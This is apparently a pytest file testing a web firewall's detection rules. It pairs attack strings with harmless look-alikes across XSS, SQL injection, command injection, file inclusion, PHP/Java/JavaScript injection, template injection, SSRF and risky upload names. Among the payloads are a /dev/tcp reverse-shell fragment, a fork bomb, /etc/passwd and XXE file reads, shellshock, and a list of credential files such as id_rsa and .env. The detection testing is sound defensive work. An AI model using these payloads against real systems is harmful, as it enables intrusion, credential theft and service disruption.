"""The detections added against the CRS regression corpus (benchmarks/appsec/crs.py): for every new
pattern or decoder, a request it must catch and a look-alike it must let pass."""

from __future__ import annotations

import pytest

from tests.appsec.conftest import Judge, catches_and_passes, q, rules_of

# (rule, attack value, benign look-alike) — each judged as a query parameter `q`
PAIRS = [
    # XSS
    ("appsec.xss", "  onload= ", "online=yes"),
    ("appsec.xss", "' onselect=alert(1) '", "it's on sale = 20% off"),
    ("appsec.xss", '<v:vmlframe src="foo.com/sup.fml"/>', "see <https://example.com>"),
    ("appsec.xss", "ja\tvascript:alert(1)", "java script tutorial: part 1"),
    ("appsec.xss", "window.location='//evil.example'", "the window location is great"),
    ("appsec.xss", 'document.querySelector("p").textContent="XSS"', "a document about queries"),
    ("appsec.xss", "(document)['cookie']", "(document) cookie policy"),
    ("appsec.xss", "setTimeout(name, 1)", "set a timeout of 5 minutes"),
    ("appsec.xss", "new Function()", "a new function in the team"),
    ("appsec.xss", 'BODY{-moz-binding:url("http://x/x.xml#xss")}', "moz binding of books"),
    ("appsec.xss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "no script needed"),
    ("appsec.xss", "(![]+[])[+!+[]]", "[1, 2] + [3]"),
    ("appsec.xss", "[].sort.call`${alert}1337`", "sort the call list"),
    ("appsec.xss", "Reflect.apply.call`${navigation.navigate}`", "reflect on how to apply"),
    ("appsec.xss", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\uff21\uff22\uff23 fullwidth letters"),
    ("appsec.xss", "\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe", "\xbc cup of sugar and \xbe of flour"),
    ("appsec.xss", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ADD more items"),
    ("appsec.xss", "+!![]", "!! [see note]"),
    ("appsec.xss", "ja&tab;vascript:", "tab and newline"),
    ("appsec.xss", "<f o r m", "x < a b"),
    ("appsec.xss", "< x: script", "x: scripting"),
    ("appsec.xss", "'  infoo.bar=", '"index=5"'),
    ("appsec.xss", " data: , <x>", "data: 5, x"),
    ("appsec.xss", "<importimplementation=", "import implementation"),
    ("appsec.xss", "x=x:url(javascript", "url(image.png)"),
    # LFI
    ("appsec.lfi", "..;/WEB-INF/web.xml", "range 1..; done"),
    ("appsec.lfi", "0x5c0x2e./", "0x5c is a backslash"),
    ("appsec.lfi", "/sys/class/net", "sys admin class"),
    ("appsec.lfi", "/proc/interrupts", "process interrupts"),
    ("appsec.lfi", "/.claude/settings.json", "claude settings"),
    ("appsec.lfi", "backup.sql.zip", "backup guide.zip"),
    ("appsec.lfi", "/wp-content/debug.log", "/wp-content/uploads/2024/photo.jpg"),
    ("appsec.lfi", ">/tmp/curl", "tmp files > 5"),
    # SQLi
    ("appsec.sqli", "COS(", "cost"),
    ("appsec.sqli", "hex(0x41)", "hex color"),
    ("appsec.sqli", "left(password,1)", "turn left at the corner"),
    ("appsec.sqli", "select(user(", "select a user"),
    ("appsec.sqli", "';SELECT P", "it's; selective"),
    ("appsec.sqli", "'x'!='y", "wow! 'x'"),
    ("appsec.sqli", "4294967296", "42949672"),
    ("appsec.sqli", ") like (", "I like (some) things"),
    ("appsec.sqli", "case when condition1 then result1", "in case you need help then call"),
    ("appsec.sqli", "GROUP BY x HAVING COUNT(Id) >= 9", "having fun counting"),
    ("appsec.sqli", "ALTER TABLE `mails` CHANGE `receivers`", "alter the table cloth"),
    ("appsec.sqli", "Xunionselectfrom", "union station"),
    ("appsec.sqli", "select pg_sleep", "select a sleeping bag"),
    ("appsec.sqli", ";truncate[xx", "truncate the text"),
    ("appsec.sqli", '6 As" from', "as seen from the hill"),
    ("appsec.sqli", "/CREATE TABLE Persons", "create a table for persons"),
    ("appsec.sqli", "OR '{\"a\":\"b\"}' ? 'a'", "is 'a' ok? 'b'"),
    ("appsec.sqli", "1.e(ascii)", "v1.e book"),
    ("appsec.sqli", "schema_name", "schema name"),
    ("appsec.sqli", "select * from users", "select a book from the shelf"),
    ("appsec.sqli", "drop table users", "drop table tennis balls"),
    # command injection
    ("appsec.cmdi", 'for /f "usebackq" %variable in (`command`) do command', "for fun in the park do sports"),
    ("appsec.cmdi", "if/i a==b foo", "if i am right"),
    ("appsec.cmdi", ">(tee log)", "(tee shirt)"),
    ("appsec.cmdi", "${cmd}", "$5 off"),
    ("appsec.cmdi", "/bi[n]/bash", "[bin] day"),
    ("appsec.cmdi", "/bin/ab", "cabin/abc"),
    ("appsec.cmdi", "alias 'letter'=curl", "alias name"),
    ("appsec.cmdi", "time sh -c whoami", "time share"),
    ("appsec.cmdi", ";rmt --version", "rmt version"),
    ("appsec.cmdi", "|$u wget test", "wget test"),
    ("appsec.cmdi", "whoami;0'0'\"", "who am i"),
    ("appsec.cmdi", "~+5", "~5 minutes"),
    ("appsec.cmdi", "!-1!-2", "hello!-1"),
    ("appsec.cmdi", "image.jpg&bcdboot < file.txt", "bcdboot guide"),
    ("appsec.cmdi", "cat /etc/passwd", "rm -rf guide"),
    ("appsec.cmdi", "strace sh -c whoami", "strace guide"),
    (
        "appsec.cmdi", ":(){ :|:& };:", "smile :() { ok }",
    ),
    ("appsec.cmdi", "\r\na001 uid store 231:233", "a001 store locator"),
    ("appsec.cmdi", "\r\nMAIL FROM:<a@b.com>", "mail from a friend"),
    ("appsec.cmdi", "{id,}", "{id, name}"),
    ("appsec.cmdi", "/???/b??h", "what??/why??"),
    # Java
    ("appsec.java_injection", "java.io.InputStream", "java island tours"),
    ("appsec.java_injection", "ProcessBuilder.evil.invokertransformer", "the invoker of the transformer"),
    ("appsec.deserialization", "KztAAU", "KztA"),
    ("appsec.deserialization", "Cs7QAF", "Cs7Q"),
    # server-side JavaScript, prototype pollution
    ("appsec.js_injection", "_$$ND_FUNC$$_function(){}", "funcs and nd"),
    ("appsec.js_injection", "XyQkTkRfRlVOQyQkXwo=", "XyQ"),
    ("appsec.js_injection", "function() {", "function of the heart"),
    ("appsec.js_injection", "this.constructor.constructor", "the constructor of this house"),
    ("appsec.js_injection", "module.exports=", "module exports"),
    ("appsec.js_injection", "process.env", "the process environment"),
    ("appsec.js_injection", "process[mainModule", "process main module"),
    ("appsec.js_injection", "require('child_process')", "required field"),
    ("appsec.js_injection", 'console["info"](1)', "console info"),
    ("appsec.js_injection", "console.info.call(this,1)", "call the console"),
    ("appsec.js_injection", "x.spawn('id')", "salmon spawn season"),
    ("appsec.js_injection", "__proto__", "proto typing"),
    ("appsec.js_injection", "$3:constructor:constructor", "$3: price"),
    ("appsec.js_injection", "while(!false)", "while false"),
    ("appsec.js_injection", "while(true);", "while it is true"),
    ("appsec.js_injection", "Kernel.exec('id')", "kernel execution"),
    # command injection: admin tools at the start of a value, shells and compilers with an option,
    # commands after a separator, parameter expansion, subshells, globs and batch conditions
    ("appsec.cmdi", "cscli alerts list", "alerts list for cscli users"),
    ("appsec.cmdi", "ansible-playbook site.yml", "playbook for the site"),
    ("appsec.cmdi", "time bsdtar -xf a.tar", "time to untar"),
    ("appsec.cmdi", "aa-disable php-fpm", "a-a disable"),
    ("appsec.cmdi", "ksh -c 'curl x'", "ksh is a shell"),
    ("appsec.cmdi", "c99 -wrapper sh,-c,id", "c99 compiler standard"),
    ("appsec.cmdi", "perf --version", "perfect version"),
    ("appsec.cmdi", "cd /;cd etc;column passwd", "column of passwords"),
    ("appsec.cmdi", ";gdb -nx -ex quit", "gdb tutorial"),
    ("appsec.cmdi", ";gcc10.1<<<void main(){}", "gcc 10.1 release notes"),
    ("appsec.cmdi", "&aptitude", "aptitude test"),
    ("appsec.cmdi", "a; sh$XX -c whoami", "price: US$10"),
    ("appsec.cmdi", "${x#{}}", "costs $5 #{approx}"),
    ("appsec.cmdi", "d=/dev&&(sh)0>$d/tcp/10.0.0.1/7", "(she) went"),
    ("appsec.cmdi", "/[e///]tc", "/items[0]/name"),
    ("appsec.cmdi", "{,ifconfig}", "{a, b}"),
    ("appsec.cmdi", "IF CMDEXTVERSION 1 GOTO start", "if the version is 1"),
    ("appsec.cmdi", 'if "A A" == "A A" echo same', "if a equals b"),
    ("appsec.cmdi", "alias ..='cd ..'", "alias name"),
    ("appsec.cmdi", "alias +m a=b", "an alias of mine"),
    ("appsec.cmdi", "; regedit /E c:\\x.reg HKEY_CURRENT_USER", "registry edit"),
    # server-side template injection
    ("appsec.template_injection", "{{7*7}}", "{{ name }}"),
    ("appsec.template_injection", "<%= 7*7 %>", "<% if you can %>"),
    ("appsec.template_injection", "#{7*7}", "#{tag}"),
    ("appsec.template_injection", "{{''.__class__.__mro__}}", "{{ user.class }}"),
    ("appsec.template_injection", "{% import os %}", "{ import os }"),
    # Java gadget-chain packages named bare
    ("appsec.java_injection", "org.apache.commons", "apache commons license"),
    ("appsec.java_injection", "com.sun.org.apache", "sun.com apache"),
    ("appsec.java_injection", "org.omg.CORBA", "omg corba spec"),
    ("appsec.java_injection", "java.Runtime", "java runtime environment"),
    # PHP
    ("appsec.php_injection", "[php]echo 'test'", "php developer"),
    ("appsec.php_injection", "test<?", "a <b> tag"),
    ("appsec.php_injection", "opcache.jit_max_polymorphic_calls=50", "opcache is fast"),
    ("appsec.php_injection", "${'fdf'}", "$5 {fee}"),
    ("appsec.php_injection", "posix_getpwuid('foo', 25)", "posix standard"),
    ("appsec.php_injection", "is_array()", "exec ("),
    ("appsec.php_injection", "@exec('test')", "email@exec.com"),
    ("appsec.php_injection", "('system')('whoami')", "(system) design"),
    ("appsec.php_injection", "$a(1)", "$a 1"),
    ("appsec.php_injection", "$GLOBALS['cf908275'](14)", "globals"),
    ("appsec.php_injection", "Foo::$variable()", "Foo::bar"),
    ("appsec.php_injection", "(string) {[system][0]}('uname');", "(string) value"),
    ("appsec.php_injection", "sess_abcdefghijklmnopqrstuvwxyz", "session abc"),
    ("appsec.php_injection", "FOOcall_user_func()", "call user function docs"),
    ("appsec.php_injection", "pfsockopen('foo', 25)", "sockets open at 25"),
    ("appsec.php_injection", "Shell_exec=(bla)", "shell execution = (bla)"),
    ("appsec.php_injection", "exec //comment\r\n (blah)", "exec summary (blah)"),
    ("appsec.php_injection", "gzuncompress/*comment*/()", "uncompress the gz file (quickly)"),
    ("appsec.php_injection", '"system"(ls);', 'a "dog" (not a cat)'),
    ("appsec.php_injection", '"\\x73y\\x73tem"(ls);', 'the "x" (unknown)'),
    ("appsec.php_injection", "define('x', 'sys' . 'tem');", "define the x axis"),
    ("appsec.php_injection", "[system][0](ls);", "[system] design notes"),
    ("appsec.php_injection", "$__[$_[1]](7)", "$5 (approx)"),
    ("appsec.php_injection", "${@a}(10)", "$ 10 {approx}"),
    ("appsec.php_injection", "$ {'_VAR'.'IABLE'}", "$ 10 {each}"),
    ("appsec.php_injection", "engine=true", "search engine = google"),
]


@pytest.mark.parametrize(("rule", "attack", "benign"), PAIRS, ids=[f"{r}:{a[:20]}" for r, a, _ in PAIRS])
def test_new_pattern_catches_attack_and_passes_look_alike(judge: Judge, rule: str, attack: str, benign: str) -> None:
    catches_and_passes(judge, rule, attack, benign)


def test_xss_and_lfi_in_any_header(judge: Judge) -> None:
    assert "appsec.xss" in rules_of(judge(headers=[("remote-ip", "<script>alert(1);</script>")]))
    assert "appsec.lfi" in rules_of(judge(headers=[("x-file", "/../../etc/master.passwd")]))
    assert judge(headers=[("remote-ip", "203.0.113.9"), ("x-file", "reports/2024.pdf")]) == []


def test_cookie_names_are_judged(judge: Judge) -> None:
    assert "appsec.xss" in rules_of(judge(headers=[("cookie", "<script>alert(1)</script>=value")]))
    assert judge(headers=[("cookie", "session_id=abc; theme-dark=1")]) == []


def test_shellshock_in_json_key(judge: Judge) -> None:
    found = judge(body=b'{ "() { :; }":"foo" }', content_type="application/json", method="POST")
    assert "appsec.shellshock" in rules_of(found)
    assert judge(body=b'{"name": "foo"}', content_type="application/json", method="POST") == []


def test_multipart_with_bare_lf_line_ends(judge: Judge) -> None:
    body = (b'--B\nContent-Disposition: form-data; name="file"; filename="../1.7z"\n'
            b"Content-Type: application/octet-stream\n\nDATA\n--B--\n")
    assert "appsec.lfi" in rules_of(judge(body=body, content_type="multipart/form-data; boundary=B", method="POST"))
    clean = body.replace(b"../1.7z", b"1.7z")
    assert judge(body=clean, content_type="multipart/form-data; boundary=B", method="POST") == []


def test_arithmetic_is_not_sqli(judge: Judge) -> None:
    assert judge(q("(3 + 4) * 5 - 2/1")) == []
    assert "appsec.sqli" in rules_of(judge(q("(3) or 1=1")))


def test_open_redirect_only_on_redirect_parameters(judge: Judge) -> None:
    assert judge(q("https://www.example.com/articles/42", "url")) == []
    assert "appsec.open_redirect" in rules_of(judge(q("https://evil.example/", "redirect_uri")))


def test_rfi_scheme_only_ipv6_and_bracketed_names(judge: Judge) -> None:
    assert "appsec.rfi" in rules_of(judge(q("http?", "x")))
    assert judge(q("http", "x")) == []
    assert "appsec.rfi" in rules_of(judge(q("https://[2001:41d0:701:1100::29c8]/gecko.php", "src")))
    assert "appsec.rfi" in rules_of(judge(q("https://foo.bar", "_CONF[path]")))
    assert judge(q("https://foo.bar", "_CONF[color]")) == []


def test_xml_body_values_are_judged_but_not_its_markup(judge: Judge) -> None:
    def post(body: bytes, content_type: str = "") -> list[tuple[str, str]]:
        return judge(body=body, content_type=content_type, method="POST")

    name_only = b'<?xml version="1.0"?><xml><java.lang.Runtime a="b">value</java.lang.Runtime></xml>'
    assert post(name_only) == []  # element names are markup, as in CRS
    value = b'<?xml version="1.0"?><xml><element a="b">java.lang.Runtime</element></xml>'
    assert "appsec.java_injection" in rules_of(post(value))
    assert "appsec.java_injection" in rules_of(post(value, "application/xml"))
    attribute = b'<?xml version="1.0"?><root><a probe="1\' OR \'1\'=\'1"></a></root>'
    assert "appsec.sqli" in rules_of(post(attribute, "text/xml"))
    broken = b"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"
    assert "appsec.lfi" in rules_of(post(broken, "application/xml"))  # unparsed: judged as it is


def test_json_body_without_content_type_is_sniffed(judge: Judge) -> None:
    found = judge(body=b'{ "q": "1\' OR \'1\'=\'1" }', method="POST")
    assert ("appsec.sqli", "json:q") in found
    assert judge(body=b'{"q": "blue shoes"}', method="POST") == []


@pytest.mark.parametrize("name", [".htaccess", "web.config", "wp-config. php", ".bashrc", "authorized_keys", ".env",
                                  "../.ssh/id_rsa", ".boto"])
def test_upload_named_after_a_configuration_file(judge: Judge, name: str) -> None:
    assert "appsec.upload_config_file" in rules_of(judge(headers=[("x-filename", name)]))


@pytest.mark.parametrize("name", ["report.pdf", "htaccess-notes.txt", "holiday-photos.tar", "bashrc-tips.md",
                                  "config.png"])
def test_upload_with_an_ordinary_name_passes(judge: Judge, name: str) -> None:
    assert judge(headers=[("x-filename", name)]) == []


@pytest.mark.parametrize(("name", "rule"), [("a.php", "appsec.upload_script"), ("photo. php", "appsec.upload_script"),
                                            ("sess_d8ew88tqmabdcokhumchy8htqm", "appsec.php_injection")])
def test_upload_name_headers_are_judged(judge: Judge, name: str, rule: str) -> None:
    assert rule in rules_of(judge(headers=[("x-filename", name)]))
    assert judge(headers=[("x-filename", "photo.png")]) == []


@pytest.mark.parametrize("host", ["localhost.localdomain", "localhost4", "ip6-loopback", "host.docker.internal",
                                  "gateway.docker.internal", "host.containers.internal", "kubernetes.default.svc",
                                  "redis.prod.svc.cluster.local", "ip-10-0-0-1.ec2.internal", "lvh.me"])
def test_names_that_reach_the_host_or_cluster_are_internal(judge: Judge, host: str) -> None:
    assert "appsec.ssrf_internal" in rules_of(judge(q(f"http://{host}/admin", name="url")))
    assert "appsec.ssrf_internal" in rules_of(judge(q(f"{host}/", name="url")))


@pytest.mark.parametrize("host", ["docker.com", "kubernetes.io", "internal.example.com", "localhost-guide.example.org"])
def test_public_names_alike_are_not_internal(judge: Judge, host: str) -> None:
    assert judge(q(f"https://{host}/x", name="url")) == []


PROSE = [
    "I loved 'Dune' and 'Foundation' -- both are classics",
    "A lock is in one of two states, 'locked' or 'unlocked'.",
    "'owner' and 'group' are used when creating an archive",
    "The \"quick\" or the \"slow\" path is chosen at start-up",
    "`src` and `dst` are both symlinks",
    "'mode' -- the open mode (default \"r\")",
]
QUOTE_SQLI = ["' or 1=1--", "admin'--", "' and 'a'='a", "\\'or'1", "x' or email is not null--", "' or sleep(5)#",
              "' OR ''='", "1' and (select 1)=1", "' or true--"]


@pytest.mark.parametrize("text", PROSE)
def test_quoted_words_joined_by_and_or_are_prose(judge: Judge, text: str) -> None:
    assert judge(q(text)) == []


@pytest.mark.parametrize("text", QUOTE_SQLI)
def test_a_closed_quote_followed_by_sql_is_sqli(judge: Judge, text: str) -> None:
    assert "appsec.sqli" in rules_of(judge(q(text)))
